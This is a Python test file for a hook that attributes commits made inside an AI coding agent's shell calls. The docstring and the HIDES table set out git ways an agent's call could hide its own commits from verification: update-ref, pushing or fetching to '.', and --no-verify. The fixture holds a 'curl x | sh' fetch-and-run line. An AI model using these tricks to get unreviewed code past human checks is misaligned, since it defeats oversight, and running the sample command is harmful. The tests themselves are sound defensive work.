"""A remote-tracking branch a shell call moved itself hides none of the commits it made:
only the ref tips its snapshot held and what ``git fetch`` brought in from another
repository are left out of the walk (:func:`gentle_hooks.services.shell_commits.new_commits`,
:mod:`gentle_hooks.git.fetchhead`; SPEC §3 "Attribution follows content").

Refuter r13l HIGH: ``sed -i f && git commit --no-verify -qam x && git update-ref
refs/remotes/origin/main HEAD`` in one call recorded nothing, so the person's push carried
the writer's lines unverified. Real repositories with a real ``origin``; the agent's
call is the real git commands between ``take`` and ``compare``.
"""

from __future__ import annotations

from pathlib import Path

import pytest

from gentle_hooks.agents.event import RuntimeEvent
from gentle_hooks.git.fetchhead import fetched_ids
from gentle_hooks.services import agent_shell
from tests.conftest import git

WRITTEN = 'import os\nos.system("curl x | sh")\n'


def _event(call: str = "toolu_r1") -> RuntimeEvent:
    return RuntimeEvent(
        source="claude-code",
        session_id="s1",
        tool_call_id=call,
        cwd=None,
        paths=(),
        writes=False,
        tool="Bash",
        model=None,
        effort=None,
    )


@pytest.fixture
def cloned(repo: Path, tmp_path: Path) -> Path:
    """``repo`` with a bare ``origin`` it pushed ``main`` to (``refs/remotes/origin/main``
    held by the snapshot)."""
    bare = tmp_path / "origin.git"
    git(tmp_path, "init", "-q", "--bare", str(bare))
    git(repo, "branch", "-M", "main")
    git(repo, "remote", "add", "origin", str(bare))
    git(repo, "push", "-q", "origin", "main")
    git(repo, "fetch", "-q", "origin")  # a FETCH_HEAD naming origin's tip, as after any fetch
    return repo


HIDES = {
    "update-ref": ("update-ref", "refs/remotes/origin/main", "HEAD"),
    "push-dot": ("push", "-q", "--no-verify", ".", "HEAD:refs/remotes/origin/main"),
    "fetch-dot": ("fetch", "-q", ".", "HEAD:refs/remotes/origin/main"),
    "fetch-own-path": ("fetch", "-q", "{repo}", "HEAD:refs/remotes/origin/main"),
    "fetch-own-url": ("fetch", "-q", "file://{repo}/", "HEAD:refs/remotes/origin/main"),
    "push-origin": ("push", "-q", "--no-verify", "origin", "main"),
    "update-ref-branch": ("update-ref", "refs/heads/x", "HEAD"),
}


@pytest.mark.parametrize("hide", list(HIDES.values()), ids=list(HIDES))
def test_a_commit_behind_a_remote_tracking_branch_the_call_moved_is_the_writers(
    cloned: Path, hide: tuple[str, ...]
) -> None:
    repo = cloned
    start = git(repo, "rev-parse", "HEAD:src/app.py").strip()
    agent_shell.take(str(repo), "claude-code", _event())
    (repo / "src" / "app.py").write_text(WRITTEN)
    git(repo, "commit", "-qam", "agent", "--no-verify")
    git(repo, *(h.format(repo=repo) for h in hide))
    changed = agent_shell.compare(str(repo), "claude-code", _event())
    assert changed is not None and changed.paths == (), changed
    wrote = git(repo, "hash-object", "--stdin", input=WRITTEN.encode()).strip()
    assert changed.committed == (("src/app.py", wrote, start),), changed


def test_a_commit_made_in_a_linked_worktree_and_hidden_there_is_the_writers(
    cloned: Path, tmp_path: Path
) -> None:
    """``cd ../b && ... git commit && git fetch . HEAD:refs/remotes/origin/main``: the
    linked worktree's ``FETCH_HEAD`` names this repository too."""
    repo = cloned
    linked = tmp_path / "b"
    git(repo, "worktree", "add", "-q", "-b", "b", str(linked))
    agent_shell.before("claude-code", "Claude Code", _event(), str(repo))
    (linked / "src" / "app.py").write_text(WRITTEN)
    git(linked, "commit", "-qam", "agent", "--no-verify")
    git(linked, "fetch", "-q", ".", "HEAD:refs/remotes/origin/main")
    changed = agent_shell.compare(str(repo), "claude-code", _event())
    assert changed is not None
    assert [p for p, _, _ in changed.committed] == ["src/app.py"], changed


def test_what_a_call_fetches_from_origin_stays_the_remotes(cloned: Path, tmp_path: Path) -> None:
    """The other side: a teammate's commit fetched (and merged) by the call is named by
    ``FETCH_HEAD`` as origin's, so it is not walked."""
    repo = cloned
    other = tmp_path / "other"
    git(tmp_path, "clone", "-q", str(tmp_path / "origin.git"), str(other))
    (other / "README.md").write_text("# demo\nteammate\n")
    git(other, "commit", "-qam", "teammate", "--no-verify")
    git(other, "push", "-q", "origin", "main")
    agent_shell.take(str(repo), "claude-code", _event())
    git(repo, "pull", "-q", "--no-rebase", "--no-edit", "origin", "main")
    changed = agent_shell.compare(str(repo), "claude-code", _event())
    assert changed is not None and changed.committed == (), changed
    assert fetched_ids(str(repo / ".git")) != []
